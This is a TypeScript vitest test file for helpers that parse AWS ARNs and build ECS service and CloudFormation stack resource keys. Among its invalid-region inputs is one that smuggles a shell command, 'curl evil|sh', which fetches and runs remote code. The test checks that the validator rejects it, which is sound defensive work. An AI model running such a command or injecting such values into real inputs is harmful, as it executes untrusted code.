import { describe, expect, it } from 'vitest';
import {
  clusterArnOf,
  lastSegment,
  parseArn,
  serviceResource,
  serviceResourceOfArn,
  stackResource,
} from '../../shared/resource.ts';

const CLUSTER = 'arn:aws:ecs:eu-central-1:444455556666:cluster/shop';

describe('parseArn', () => {
  it('keeps colons in the last part', () => {
    expect(parseArn('arn:aws-cn:logs:cn-north-1:444455556666:log-group:/ecs:*')).toEqual({
      partition: 'aws-cn',
      service: 'logs',
      region: 'cn-north-1',
      account: '444455556666',
      rest: 'log-group:/ecs:*',
    });
  });

  it('accepts an ARN without Region and account', () => {
    expect(parseArn('arn:aws:s3:::shop')).toMatchObject({ region: '', account: '', rest: 'shop' });
  });

  it.each(['', 'media', 'arn:aws', 'arn:aws:ecs:eu-central-1:4444', 'http://arn:aws:ecs:a:b:c'])(
    'throws at "%s", which is not an ARN',
    (text) => {
      expect(() => parseArn(text)).toThrow(/^not an ARN/);
    },
  );

  it('does not repeat a megabyte of nonsense in its error', () => {
    expect(() => parseArn('x'.repeat(1_000_000))).toThrow(/^.{1,200}$/);
  });
});

describe('lastSegment', () => {
  it.each([
    [`${CLUSTER}`, 'shop'],
    ['arn:aws:ecs:eu-central-1:4:task/0f1e', '0f1e'],
    ['arn:aws:ecs:eu-central-1:4:task/shop/0f1e', '0f1e'],
    ['media', 'media'],
  ])('of %s is %s', (arn, segment) => {
    expect(lastSegment(arn)).toBe(segment);
  });
});

describe('serviceResource', () => {
  it.each(['aws', 'aws-cn', 'aws-us-gov'])('keeps the partition %s', (partition) => {
    const cluster = CLUSTER.replace('arn:aws:', `arn:${partition}:`);
    expect(serviceResource(cluster, 'media')).toEqual({
      kind: 'service',
      key: '444455556666/eu-central-1/shop/media',
      arn: `arn:${partition}:ecs:eu-central-1:444455556666:service/shop/media`,
      name: 'media',
      cluster: 'shop',
      account: '444455556666',
      region: 'eu-central-1',
    });
    expect(clusterArnOf(serviceResource(cluster, 'media'))).toBe(cluster);
  });

  it.each(['eu_1', 'eu-1;curl evil|sh', 'EU', ''])(
    'throws at the Region "%s", which would stand in commands and links',
    (region) => {
      const cluster = CLUSTER.replace('eu-central-1', region);
      expect(() => serviceResource(cluster, 'media')).toThrow(/^not the ARN of an ECS cluster/);
    },
  );
});

describe('serviceResourceOfArn', () => {
  const media = serviceResource(CLUSTER, 'media');

  it.each<readonly [string, string, string | undefined, string | undefined]>([
    ['a new ARN', media.arn, undefined, media.key],
    ['an old ARN with the cluster beside it', media.arn.replace('shop/', ''), CLUSTER, media.key],
    [
      'nothing from an old ARN alone, which lacks the cluster',
      media.arn.replace('shop/', ''),
      undefined,
      undefined,
    ],
    ['nothing from another kind of ARN', CLUSTER, undefined, undefined],
    [
      'nothing from a service ARN without a name',
      media.arn.replace('media', ''),
      undefined,
      undefined,
    ],
  ])('reads %s', (_, arn, cluster, key) => {
    expect(serviceResourceOfArn(arn, cluster)?.key).toBe(key);
  });
});

describe('stackResource', () => {
  it('keeps the unique id, since a name can be used again', () => {
    const id = 'arn:aws:cloudformation:eu-central-1:444455556666:stack/shop/9f31c2e0';
    expect(stackResource(id)).toMatchObject({
      kind: 'stack',
      key: '444455556666/eu-central-1/stack/shop/9f31c2e0',
      arn: id,
      name: 'shop',
    });
  });
});
